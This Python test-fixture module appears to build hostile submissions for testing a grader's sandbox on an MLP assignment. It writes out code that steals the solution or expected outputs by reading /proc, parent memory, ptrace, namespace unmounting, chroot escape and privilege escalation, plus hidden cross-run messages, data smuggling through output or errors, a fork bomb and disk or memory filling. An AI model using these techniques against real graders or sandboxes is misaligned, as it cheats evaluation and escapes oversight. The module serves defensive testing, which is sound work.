"""Submissions that attack the grader, by name.

A thief has the right answer only where it has found something that no submission may see: the
solution, an expected record, another submission or a stand-in. A messenger is right in its first
case and leaves a message there, which its other file looks for.
"""

from collections.abc import Iterator

from test_grader_attacks import ENDS, FORGERIES, SLOW_ENDS

from grading import GRADER_REPLACED, PARENT_KILLED, SOLUTION, WRONG, edit, in_forward

# Where secrets are, for those who know: replaced before the grading.
PLACES = ("SOLUTION_FOLDER", "EXPECTED_FOLDER", "OTHER_SUBMISSION")

# In front of a thief: what it finds, it shows to ``keep``.
_THIEF = '''
import ctypes, gc, glob, os, pathlib, sys, types
loot = []
def keep(thing):
    """Remember what is part of the solution, an expected record or a compiled stand-in."""
    if isinstance(thing, types.CodeType) and thing.co_filename == "<solution>":
        loot.append(thing)
    text = thing.encode(errors="ignore") if isinstance(thing, str) else thing
    if isinstance(text, (bytes, bytearray, memoryview)):
        text = bytes(text)
        own = b"nn.func" + b"tional.linear(input, self.weight, self.bias)"
        if b"return " + own in text or text[:2] == b"PK" and b"index" + b".npy" in text:
            loot.append(text)
def read(path):
    try:
        with open(path, "rb") as file:
            keep(file.read(1 << 24))
    except (OSError, ValueError):
        pass
def look(*patterns):
    for pattern in patterns:
        for path in glob.glob(str(pattern), recursive=True)[:2000]:
            if os.path.isfile(path):
                read(path)
def search(thing, depth=4, seen=None):
    seen = set() if seen is None else seen
    if id(thing) in seen or depth < 0 or len(seen) > 200_000:
        return
    seen.add(id(thing))
    keep(thing)
    if isinstance(thing, (str, os.PathLike)) and len(str(thing)) < 300 and os.path.isdir(thing):
        look(f"{thing}/*.npz", f"{thing}/*.py", f"{thing}/*.json")
    parts = thing.values() if isinstance(thing, dict) else thing
    if isinstance(thing, (dict, list, tuple, set, frozenset)):
        for part in list(parts)[:1000]:
            search(part, depth - 1, seen)
    elif hasattr(thing, "__dict__") and not isinstance(thing, (type, types.ModuleType)):
        search(vars(thing), depth - 1, seen)
    elif hasattr(thing, "__closure__"):
        for cell in thing.__closure__ or ():
            search(cell.cell_contents, depth - 1, seen)
def frames():
    frame = sys._getframe()
    while frame:
        yield frame
        frame = frame.f_back
def steal():
    STEAL
'''

_STEALING = {
    "reads the solution beside the grader": (
        "import grader\nroot = pathlib.Path(grader.__file__).parent.parent\n"
        "look(root / '*.py', root / 'tests' / '*.py', root / 'expected' / '*')"
    ),
    "reads the solution where it is known to be": "look('SOLUTION_FOLDER/*.py')",
    "reads the expected records where they are known to be": "look('EXPECTED_FOLDER/*')",
    "reads another submission where it is known to be": "look('OTHER_SUBMISSION/*.py')",
    "imports the solution": (
        "sys.path.insert(0, 'SOLUTION_FOLDER')\nimport importlib.util as u\n"
        "spec = u.spec_from_file_location('stolen', 'SOLUTION_FOLDER/mlp.py')\n"
        "m = u.module_from_spec(spec)\ntry:\n    spec.loader.exec_module(m)\n    loot.append(m)\n"
        "except OSError:\n    pass"
    ),
    "looks into the variables of all frames": (
        "for frame in frames():\n    search(frame.f_locals)\n    search(frame.f_globals, 2)"
    ),
    "looks at all objects": "for thing in gc.get_objects():\n    search(thing, 1, set())",
    "looks for compiled code": (
        "for thing in gc.get_objects():\n"
        "    for part in gc.get_referents(thing):\n        keep(part)"
    ),
    "looks for the modules of the solution": (
        "for thing in gc.get_objects():\n    if isinstance(thing, dict):\n"
        "        if str(thing.get('__name__')).startswith('solution_'):\n"
        "            loot.append(thing)"
    ),
    "asks the case for its expected record": (
        "for frame in frames():\n    for name in ('expected', 'wanted', 'stand_ins', 'sources'):\n"
        "        if frame.f_locals.get(name):\n            search(frame.f_locals[name])"
    ),
    "reads the working folders of other runs": (
        "look('/tmp/grader-*/**/*.py', '/tmp/grader-*/**/*.npz', '/tmp/**/code/*.py')"
    ),
    "lists the folders around its own": (
        "here = pathlib.Path(__file__).parent\n"
        "look(here.parent.parent / '**' / '*.py', here.parent.parent.parent / '*' / '*.py')"
    ),
    "follows the command lines of all processes": (
        "for path in glob.glob('/proc/[0-9]*/cmdline'):\n    try:\n"
        "        words = open(path).read().split('\\0')\n    except OSError:\n        continue\n"
        "    for word in words:\n        if len(word) > 1:\n"
        "            look(word, word + '/*.py', word + '/*.npz', word + '/../*/*.py')"
    ),
    "follows the environment of all processes": (
        "for path in glob.glob('/proc/[0-9]*/environ'):\n    try:\n"
        "        words = open(path).read().replace('=', '\\0').split('\\0')\n"
        "    except OSError:\n        continue\n    for word in words:\n"
        "        if len(word) > 1:\n            look(word + '/*.py', word + '/*.npz')"
    ),
    "enters the folders of other processes": (
        "for place in ('cwd', 'root/SOLUTION_FOLDER', 'root/EXPECTED_FOLDER'):\n"
        "    for own in os.listdir('/proc'):\n"
        "        if own.isdigit() and int(own) != os.getpid():\n"
        "            look(f'/proc/{own}/{place}/*.py', f'/proc/{own}/{place}/*.npz')"
    ),
    "reads the open files of other processes": (
        "for path in glob.glob('/proc/[0-9]*/fd/*'):\n"
        "    own = path.split('/')[2] in (str(os.getpid()), 'self')\n"
        "    if not own and os.path.isfile(path):\n        read(path)"
    ),
    "reads the memory of its parent": (
        "for own in (os.getppid(), 1):\n    try:\n"
        "        lines = open(f'/proc/{own}/maps').read().splitlines()\n"
        "        memory = open(f'/proc/{own}/mem', 'rb', 0)\n"
        "    except OSError:\n        continue\n"
        "    if own != os.getpid():\n        loot.append(lines)"
    ),
    "traces its parent": (
        "for own in (os.getppid(), 1):\n"
        "    if own not in (0, os.getpid()) and ctypes.CDLL(None).ptrace(16, own, 0, 0) == 0:\n"
        "        loot.append(own)"
    ),
    "reads the memory of its parent by a system call": (
        "here = ctypes.create_string_buffer(8)\n"
        "class Vector(ctypes.Structure):\n"
        "    _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]\n"
        "mine = Vector(ctypes.addressof(here), 8)\n"
        "for own in (os.getppid(), 1):\n    if own not in (0, os.getpid()):\n"
        "        if ctypes.CDLL(None).process_vm_readv(own, ctypes.byref(mine), 1, "
        "ctypes.byref(mine), 1, 0) > 0:\n            loot.append(own)"
    ),
    "mounts what is below its root folder": (
        "libc = ctypes.CDLL(None)\n"
        "if libc.unshare(0x10020000) == 0:\n"
        "    libc.umount2(b'/', 2)\n    libc.umount2(b'/tmp', 2)\n"
        "    look('SOLUTION_FOLDER/*.py', 'EXPECTED_FOLDER/*')"
    ),
    "opens files by their numbers": (
        "libc = ctypes.CDLL(None)\n"
        "fd = os.open('/', os.O_RDONLY)\n"
        "handle = (ctypes.c_int * 16)(8, 1, 2, 0)\n"
        "if libc.open_by_handle_at(fd, handle, 0) >= 0:\n    loot.append(fd)"
    ),
    "becomes root": (
        "for become in (os.setuid, os.seteuid, os.setgid):\n    try:\n        become(0)\n"
        "    except OSError:\n        pass\n"
        "look('SOLUTION_FOLDER/*.py', 'EXPECTED_FOLDER/*', 'OTHER_SUBMISSION/*.py')"
    ),
    "asks sudo": (
        "os.system('sudo -n cat SOLUTION_FOLDER/mlp.py > found 2>/dev/null')\nread('found')"
    ),
    "leaves its root folder": (
        "try:\n    os.mkdir('below')\n    os.chroot('below')\n"
        "except OSError:\n    pass\nfor _ in range(50):\n    os.chdir('..')\n"
        "look('SOLUTION_FOLDER'.lstrip('/') + '/*.py', 'EXPECTED_FOLDER'.lstrip('/') + '/*')"
    ),
    "uses the descriptors that it was given": (
        "for number in range(300):\n    try:\n        os.lseek(number, 0, 0)\n"
        "        keep(os.read(number, 1 << 20))\n    except OSError:\n        pass"
    ),
    "reads the descriptors as folders": (
        "for number in range(5, 300):\n    try:\n        os.fchdir(number)\n"
        "        look('*.py', '*.npz', '*/*.npz')\n    except OSError:\n        pass"
    ),
    "opens the grader's own modules": (
        "for name, module in list(sys.modules.items()):\n    if name.startswith('grader'):\n"
        "        search(vars(module), 3)"
    ),
    "has the memory of several processes": (
        "if os.fork() == 0:\n    os._exit(0)\nloot.append('a process')"
    ),
    "starts a program with its own memory": (
        "import shutil\nprogram = shutil.which('true')\n"
        "if os.posix_spawn(program, [program], {}):\n    loot.append('a program')"
    ),
    "has file systems of its own": (
        "if ctypes.CDLL(None).unshare(0x10020000) == 0:\n    loot.append('a namespace')"
    ),
    "has the memory of 500 sockets": (
        "import socket\nloot.append([socket.socketpair() for _ in range(250)])"
    ),
    "is told what others read": (
        "import fcntl\nfolder = os.open('/usr', os.O_RDONLY)\n"
        "fcntl.fcntl(folder, fcntl.F_NOTIFY, fcntl.DN_ACCESS)\nloot.append(folder)"
    ),
    "reserves all asynchronous reading": (
        "if ctypes.CDLL(None).syscall(206, 9999, ctypes.byref(ctypes.c_ulong())) == 0:\n"
        "    loot.append('a queue')"
    ),
    "uses compiled files of the solution": "look('SOLUTION_FOLDER/__pycache__/mlp*.pyc')",
    "reads the history of the project": (
        "look('SOLUTION_FOLDER/.git/*', 'SOLUTION_FOLDER/tests/*.py')"
    ),
}

# How a message may survive its run: to leave it, and to look for it.
_MESSAGES = {
    "a file in /tmp": ("open('/tmp/message', 'w').close()", "os.path.exists('/tmp/message')"),
    "a file in /var/tmp": (
        "open('/var/tmp/message', 'w').close()",
        "os.path.exists('/var/tmp/message')",
    ),
    "a file in /dev/shm": (
        "open('/dev/shm/message', 'w').close()",
        "os.path.exists('/dev/shm/message')",
    ),
    "a hidden folder in /tmp": (
        "os.makedirs('/tmp/.message/a/b', exist_ok=True)",
        "os.path.isdir('/tmp/.message')",
    ),
    "3,000 nested folders": (
        "here = os.getcwd()\nos.chdir('/tmp')\nif not os.path.exists('message'):\n"
        "    for _ in range(3000):\n        os.mkdir('message')\n        os.chdir('message')\n"
        "os.chdir(here)",
        "os.path.isdir('/tmp/message')",
    ),
    "a file in its home": (
        "open(os.path.expanduser('~/message'), 'w').close()",
        "os.path.exists(os.path.expanduser('~/message'))",
    ),
    "a file beside the code": (
        "try:\n    open(os.path.join(os.path.dirname(__file__), 'message'), 'w').close()\n"
        "except OSError:\n    pass",
        "os.path.exists(os.path.join(os.path.dirname(__file__), 'message'))",
    ),
    "a changed submission": (
        "try:\n    open(__file__.replace('mlp', 'utils'), 'a').write('\\nmessage = True\\n')\n"
        "except OSError:\n    pass",
        "'message' in open(__file__).read().splitlines()[-1]",
    ),
    "a shared memory segment": (
        "import ctypes\nctypes.CDLL(None).shmget(4711, 4096, 0o1666)",
        "__import__('ctypes').CDLL(None).shmget(4711, 4096, 0) >= 0",
    ),
    "a message queue": (
        "import ctypes\nctypes.CDLL('librt.so.1').mq_open(b'/message', 0o102, 0o666, None)",
        "__import__('ctypes').CDLL('librt.so.1').mq_open(b'/message', 0) >= 0",
    ),
    "a key in the kernel": (
        "import ctypes\nctypes.CDLL(None).syscall(248, b'user', b'message', b'x', 1, -3)",
        "__import__('ctypes').CDLL(None).syscall(249, b'user', b'message', None, 0) >= 0",
    ),
    "a process that stays": (
        "import socket, time\ntry:\n    s = socket.socket(socket.AF_UNIX)\n"
        "    s.bind('\\0message')\nexcept OSError:\n    s = None\n"
        "try:\n    if not hasattr(os, 'stays') and os.fork() == 0:\n"
        "        os.setsid()\n        time.sleep(30)\n        os._exit(0)\n"
        "except OSError:\n    pass\nos.stays = True",
        "'message' in open('/proc/net/unix').read()",
    ),
    "a server of its own": (
        "import socket\ntry:\n    s = socket.create_server(('127.0.0.1', 47111))\n"
        "    if os.fork() == 0:\n        os.setsid()\n        s.accept()\n        os._exit(0)\n"
        "except OSError:\n    pass",
        "not __import__('ctypes').CDLL(None).connect(-1, None, 0)",
    ),
    "the time of a file of the system": (
        "try:\n    os.utime('/tmp', (1, 1))\nexcept OSError:\n    pass",
        "os.stat('/tmp').st_mtime == 1",
    ),
    "the environment": ("os.environ['MESSAGE'] = '1'", "'MESSAGE' in os.environ"),
    "a module": (
        "sys.modules['message'] = sys",
        "'message' in sys.modules",
    ),
}


def thief(name: str) -> dict[str, str]:
    """A submission that is right only with what it steals, at import or later."""
    code = "\n    ".join(_STEALING[name].splitlines())
    head = _THIEF.replace("STEAL", code)
    return {"mlp.py": in_forward("steal()\nreturn right if loot else right + 1", head=head)}


def messenger(name: str) -> dict[str, str]:
    """A submission whose second file is right only if the first one's message is still there."""
    leave, find = _MESSAGES[name]
    return {
        "mlp.py": in_forward(f"import os, sys\n{leave}\nreturn right"),
        "utils.py": _right_if(find),
    }


def _right_if(condition: str) -> str:
    """The solution's utils.py with a loss that is right under a condition."""
    right = "return _mean(log_normalizer - target, dim=0)"
    return edit(
        SOLUTION["utils.py"],
        (right, f"import os, sys\n    {right.replace('return', f'return ({condition}) *')}"),
    )


def smuggler(channel: str) -> dict[str, str]:
    """A submission that fails, finds the stand-ins of the second attempt and lets them out."""
    code = (
        "for thing in gc.get_objects():\n    for part in gc.get_referents(thing):\n"
        "        keep(part)\nimport marshal\n"
        "if loot:\n    text = marshal.dumps(loot[0])\n    " + channel
    )
    head = _THIEF.replace("STEAL", "\n    ".join(code.splitlines()))
    text = in_forward('raise NotImplementedError("Problem 1.1")', head=head)
    own = "hidden = images.flatten(start_dim=1)"
    return {
        "mlp.py": edit(text, (own, f"steal()\n        {own}")),
        "utils.py": _right_if("any(n.startswith('smuggled') for n in os.listdir('/tmp'))"),
    }


def _others() -> Iterator[tuple[str, dict[str, str]]]:
    for name, (code, _) in (ENDS | SLOW_ENDS).items():
        yield f"ends with {name}", {"mlp.py": in_forward(code)}
    for name, code in FORGERIES.items():
        code = code.replace("RESULTS", "/tmp").strip()
        yield f"has {name}", {"mlp.py": in_forward(f"{code}\n{WRONG}")}
    for name, code in {
        "kills its parent": PARENT_KILLED,
        "replaces the grader": GRADER_REPLACED,
        "starts processes without end": "import os\nwhile True:\n    os.fork()",
        "fills the memory": "x = [bytearray(1 << 28) for _ in range(99)]",
        "fills the disk": (
            "import os\nfor number in range(99):\n"
            "    open(f'/tmp/{number}', 'wb').write(bytes(15 << 20))"
        ),
        "makes 100,000 files": (
            "import os\nfor number in range(100_000):\n    open(f'/tmp/{number}', 'w').close()"
        ),
        "has a name that is no text": (
            "import ctypes, time\nctypes.CDLL(None).prctl(15, b'\\xff', 0, 0, 0)\ntime.sleep(5)"
        ),
        "prints without end": "import os\nwhile True:\n    os.write(1, bytes(1 << 20))",
    }.items():
        yield name, {"mlp.py": in_forward(f"{code.strip()}\n{WRONG}")}
        if "parent" in name:
            yield f"{name} at import", {"mlp.py": in_forward(WRONG, head=code)}
    yield (
        "has an error without mercy",
        {
            "mlp.py": in_forward(
                "class E(Exception):\n    def __str__(self):\n        raise self\nraise E"
            )
        },
    )


THIEVES = {f"a thief that {name}": thief(name) for name in _STEALING}
MESSENGERS = {f"a message in {name}": messenger(name) for name in _MESSAGES}
SMUGGLERS = {
    f"a stand-in let out by {name}": smuggler(channel)
    for name, channel in {
        "a file": "open('/tmp/smuggled', 'wb').write(text)",
        "an error": "raise ValueError('smuggled ' + text.hex())",
        "its output": "print('smuggled', text.hex(), flush=True)",
    }.items()
}
OTHERS = {f"a submission that {name}": files for name, files in _others()}
ALL = THIEVES | MESSENGERS | SMUGGLERS | OTHERS
